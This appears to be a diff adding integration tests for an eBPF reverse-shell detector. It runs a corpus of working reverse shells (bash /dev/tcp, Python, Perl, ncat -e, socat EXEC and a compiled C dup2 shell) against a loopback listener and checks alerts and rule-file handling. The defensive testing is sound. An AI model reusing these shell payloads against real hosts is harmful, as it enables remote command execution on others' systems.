@@ -1,0 +1,279 @@
+"""detect against the real kernel: a corpus of reverse shells, each connecting to a listener
+this test runs on loopback, must each raise exactly one alert of the expected rule, within a
+second, naming the process the test started (or a descendant of it); a benign corpus (socat
+port forwarding, curl against a python http.server through it) raises none."""
+
+from __future__ import annotations
+
+import json
+import os
+import signal
+import socket
+import subprocess
+import sys
+import threading
+import time
+
+import pytest
+
+from helpers import RunningTool, bpf_objects_held_by, ek, still_in_kernel
+from ebpfkit.tools import detect
+
+pytestmark = [
+    pytest.mark.integration,
+    pytest.mark.skipif(os.geteuid() != 0, reason="loads BPF programs: needs root"),
+]
+
+REVERSE_SHELL = "Reverse shell"
+NETCAT = "Netcat or socat runs a command"
+
+C_DUP2 = r"""
+#include <arpa/inet.h>
+#include <stdlib.h>
+#include <sys/socket.h>
+#include <unistd.h>
+int main(int argc, char **argv) {
+    struct sockaddr_in a = {.sin_family = AF_INET, .sin_port = htons(atoi(argv[1]))};
+    int s = socket(AF_INET, SOCK_STREAM, 0);
+    inet_pton(AF_INET, "127.0.0.1", &a.sin_addr);
+    if (connect(s, (struct sockaddr *)&a, sizeof(a))) return 1;
+#if defined(USE_FCNTL)
+    for (int fd = 0; fd < 3; fd++) { close(fd); fcntl(s, F_DUPFD, fd); }
+#elif defined(USE_DUP)
+    for (int fd = 0; fd < 3; fd++) { close(fd); dup(s); }
+#else
+    for (int fd = 0; fd < 3; fd++) dup2(s, fd);
+#endif
+    execl("/bin/sh", "sh", "-i", (char *)0);
+    return 1;
+}
+"""
+
+
+class Listener:
+    """A TCP listener on loopback: each connection gets `exit` (a shell on the other end
+    ends) and is closed."""
+
+    def __init__(self):
+        self.sock = socket.socket()
+        self.sock.bind(("127.0.0.1", 0))
+        self.sock.listen(16)
+        self.port = self.sock.getsockname()[1]
+        self.connections = 0
+        self._thread = threading.Thread(target=self._serve, daemon=True)
+        self._thread.start()
+
+    def _serve(self):
+        while True:
+            try:
+                conn, _ = self.sock.accept()
+            except OSError:
+                return
+            self.connections += 1
+            try:
+                conn.sendall(b"exit\n")
+                time.sleep(0.3)
+            except OSError:
+                pass
+            conn.close()
+
+    def close(self):
+        self.sock.close()
+
+
+@pytest.fixture(scope="module")
+def session():
+    with detect.open() as s:
+        yield s
+
+
+@pytest.fixture(scope="module")
+def listener():
+    server = Listener()
+    yield server
+    server.close()
+
+
+@pytest.fixture(scope="module")
+def c_shells(tmp_path_factory):
+    """The C reverse shell built three ways: dup2, fcntl(F_DUPFD) and dup."""
+    d = tmp_path_factory.mktemp("revshell")
+    src = d / "revshell.c"
+    src.write_text(C_DUP2)
+    built = {}
+    for name, define in (("dup2", []), ("fcntl", ["-DUSE_FCNTL", "-include", "fcntl.h"]), ("dup", ["-DUSE_DUP"])):
+        out = d / f"revshell_{name}"
+        subprocess.run(["gcc", "-O1", *define, "-o", str(out), str(src)], check=True)
+        built[name] = str(out)
+    return built
+
+
+def variants(port: int, c_shells: dict) -> dict[str, tuple[list[str], str]]:
+    """name -> (argv, the rule that must catch it)."""
+    py = sys.executable
+    return {
+        "bash /dev/tcp": (["bash", "-c", f"bash -i >& /dev/tcp/127.0.0.1/{port} 0>&1"], REVERSE_SHELL),
+        "bash exec redirections": (["bash", "-c", f"exec 0<>/dev/tcp/127.0.0.1/{port}; exec 1>&0 2>&0; "
+                                                  f"exec /bin/sh"], REVERSE_SHELL),
+        "sh with socket stdio": (["bash", "-c", f"exec 5<>/dev/tcp/127.0.0.1/{port}; sh <&5 >&5 2>&5"],
+                                 REVERSE_SHELL),
+        "python pty.spawn": ([py, "-c", "import os,pty,socket\ns=socket.create_connection(('127.0.0.1',"
+                              f"{port}))\n[os.dup2(s.fileno(),f) for f in (0,1,2)]\npty.spawn('/bin/sh')"],
+                             REVERSE_SHELL),
+        "python subprocess": ([py, "-c", "import socket,subprocess\ns=socket.create_connection(('127.0.0.1',"
+                               f"{port}))\nsubprocess.call(['/bin/sh','-i'],stdin=s,stdout=s,stderr=s)"],
+                              REVERSE_SHELL),
+        "python connect on fd 0": ([py, "-c", "import os,socket\nos.close(0)\ns=socket.socket()\n"
+                                    f"s.connect(('127.0.0.1',{port}))\ns.recv(10)"], REVERSE_SHELL),
+        "perl": (["perl", "-e", "use Socket;socket(S,PF_INET,SOCK_STREAM,getprotobyname('tcp'));"
+                  f"connect(S,sockaddr_in({port},inet_aton('127.0.0.1')));open(STDIN,'>&S');"
+                  "open(STDOUT,'>&S');open(STDERR,'>&S');exec('/bin/sh -i');"], REVERSE_SHELL),
+        # ncat and socat relay through pipes or a socketpair: no socket on the shell's stdio
+        "ncat -e": (["ncat", "-e", "/bin/sh", "127.0.0.1", str(port)], NETCAT),
+        "socat exec": (["socat", f"TCP:127.0.0.1:{port}", "EXEC:/bin/sh"], NETCAT),
+        "C dup2": ([c_shells["dup2"], str(port)], REVERSE_SHELL),
+        "C fcntl F_DUPFD": ([c_shells["fcntl"], str(port)], REVERSE_SHELL),
+        "C dup": ([c_shells["dup"], str(port)], REVERSE_SHELL),
+    }
+
+
+def _descends(alert, pid: int) -> bool:
+    """The alert names ``pid`` or a process under it."""
+    return pid in (alert.pid, *alert.pids) or any(p == pid for p, _ in alert.process_tree)
+
+
+def _collect(session, seconds: float) -> list:
+    alerts, end = [], time.monotonic() + seconds
+    while time.monotonic() < end:
+        alerts += session.poll(50)
+    return alerts
+
+
+CORPUS = ["bash /dev/tcp", "bash exec redirections", "sh with socket stdio", "python pty.spawn",
+          "python subprocess", "python connect on fd 0", "perl", "ncat -e", "socat exec", "C dup2",
+          "C fcntl F_DUPFD", "C dup"]
+
+
+@pytest.mark.parametrize("name", CORPUS)
+def test_each_reverse_shell_raises_one_alert_within_a_second(session, listener, c_shells, name):
+    argv, rule = variants(listener.port, c_shells)[name]
+    _collect(session, 0.3)  # whatever came before this variant
+    connections = listener.connections
+    started = time.monotonic()
+    proc = subprocess.Popen(argv, stdin=subprocess.DEVNULL, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
+    alerts = []
+    try:
+        while time.monotonic() - started < 1.0 and not any(a.rule == rule for a in alerts):
+            alerts += session.poll(20)
+        found_at = time.monotonic() - started
+        alerts += _collect(session, 1.0)  # anything more it raises
+        proc.wait(10)
+    finally:
+        if proc.poll() is None:
+            proc.kill()
+            proc.wait()
+    assert listener.connections > connections, f"{name} never connected"
+    ours = [a for a in alerts if a.rule == rule and _descends(a, proc.pid)]
+    assert len(ours) == 1, (name, [(a.rule, a.pid, a.signals) for a in alerts])
+    assert found_at < 1.0, f"{name}: the alert came after {found_at:.2f} s"
+    alert = ours[0]
+    assert alert.techniques == (("T1059.004",) if rule == REVERSE_SHELL else ("T1059",))
+    assert alert.priority == ("CRITICAL" if rule == REVERSE_SHELL else "WARNING")
+
+
+def test_benign_network_programs_raise_nothing(session, tmp_path):
+    """socat forwarding a port to a python http.server, and curl fetching through it."""
+    (tmp_path / "index.html").write_text("hello")
+    backend = socket.socket()
+    backend.bind(("127.0.0.1", 0))
+    backend_port = backend.getsockname()[1]
+    backend.close()
+    front = socket.socket()
+    front.bind(("127.0.0.1", 0))
+    front_port = front.getsockname()[1]
+    front.close()
+    _collect(session, 0.3)
+    procs = [subprocess.Popen([sys.executable, "-m", "http.server", "-b", "127.0.0.1", str(backend_port)],
+                              cwd=tmp_path, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL),
+             subprocess.Popen(["socat", f"TCP-LISTEN:{front_port},bind=127.0.0.1,reuseaddr,fork",
+                               f"TCP:127.0.0.1:{backend_port}"], stdout=subprocess.DEVNULL,
+                              stderr=subprocess.DEVNULL)]
+    alerts = []
+    try:
+        fetched = 0
+        deadline = time.monotonic() + 10
+        while fetched < 5 and time.monotonic() < deadline:
+            got = subprocess.run(["curl", "-s", f"http://127.0.0.1:{front_port}/index.html"],
+                                 capture_output=True, text=True)
+            fetched += got.stdout == "hello"
+            alerts += session.poll(50)
+        alerts += _collect(session, 0.5)
+        assert fetched == 5
+    finally:
+        for p in procs:
+            p.terminate()
+            p.wait(10)
+    ours = [a for a in alerts if any(_descends(a, p.pid) for p in procs) or "curl" in a.output]
+    assert ours == [], [(a.rule, a.output) for a in ours]
+
+
+def test_cli_json_alert_and_check_and_rules(capsys, listener, tmp_path):
+    tool = RunningTool("--format", "json", "detect", "run")
+    try:
+        subprocess.run([sys.executable, "-c", "import os,socket\ns=socket.create_connection(('127.0.0.1',"
+                        f"{listener.port}))\nos.dup2(s.fileno(),1)\nos.dup2(s.fileno(),0)"], check=True)
+        time.sleep(1.0)
+        out = tool.stop()
+    finally:
+        tool.kill()
+    assert tool.returncode == 0, tool.stderr
+    alerts = [json.loads(line) for line in out.splitlines()]
+    shell = [a for a in alerts if a["rule"] == REVERSE_SHELL]
+    assert len(shell) == 1 and shell[0]["signals"] == ["dup2", "dup2"], alerts
+    assert shell[0]["event"]["fd.type"] == "ipv4" and shell[0]["techniques"] == ["T1059.004"]
+
+    rc, out, _ = ek(capsys, "--format", "json", "detect", "rules")
+    listed = {r["rule"]: r for r in json.loads(out)["rules"]}
+    assert rc == 0 and listed[REVERSE_SHELL]["techniques"] == ["T1059.004"]
+    assert all(r["techniques"] for r in listed.values())
+
+    mine = tmp_path / "local.yaml"
+    mine.write_text("- list: shell_binaries\n  items: [myshell]\n  append: true\n"
+                    "- rule: Reverse shell\n  enabled: false\n")
+    rc, _, err = ek(capsys, "detect", "check", str(mine))
+    assert rc == 0 and "valid" in err
+    rc, out, _ = ek(capsys, "--format", "json", "detect", "rules", "--rules", str(mine))
+    assert {r["rule"]: r["enabled"] for r in json.loads(out)["rules"]}[REVERSE_SHELL] is False
+
+
+@pytest.mark.parametrize("content, message", [
+    ("- rule: r\n  condition: proc.nam = bash\n  output: x\n  priority: INFO\n", ":2: rule 'r': unknown field"),
+    ("- rule: r\n  condition: evt.type = execve\n  output: x\n  priority: LOUD\n", ":4: rule 'r': priority"),
+    ("- rule: r\n  condition: evt.type = execve\n  output: x\n  priority: INFO\n  fuse: nope\n",
+     ":5: rule 'r': fuse names 'nope'"),
+    ("- rule: r\n  condition: (evt.type = execve\n  output: x\n  priority: INFO\n", ":2: rule 'r': the condition"),
+])
+def test_bad_rule_files_exit_2_naming_the_line(capsys, tmp_path, content, message):
+    bad = tmp_path / "bad.yaml"
+    bad.write_text(content)
+    for args in (["detect", "check", str(bad)], ["detect", "run", "--rules", str(bad)]):
+        rc, _, err = ek(capsys, *args)
+        assert rc == 2 and f"{bad}{message}" in err and "Traceback" not in err, err
+
+
+def test_a_missing_rules_file_exits_2(capsys, tmp_path):
+    rc, _, err = ek(capsys, "detect", "run", "--rules", str(tmp_path / "none.yaml"))
+    assert rc == 2 and "does not exist" in err
+
+
+@pytest.mark.parametrize("sig, code", [(signal.SIGINT, 0), (signal.SIGKILL, -signal.SIGKILL)])
+def test_a_signal_leaves_nothing_attached(sig, code):
+    tool = RunningTool("detect", "run")
+    try:
+        held = bpf_objects_held_by(tool.pid)
+        assert sum(kind == "link" for kind, _ in held) == 8, held
+        tool.stop(sig)
+    finally:
+        tool.kill()
+    assert tool.returncode == code, tool.stderr
+    assert still_in_kernel(held) == set()
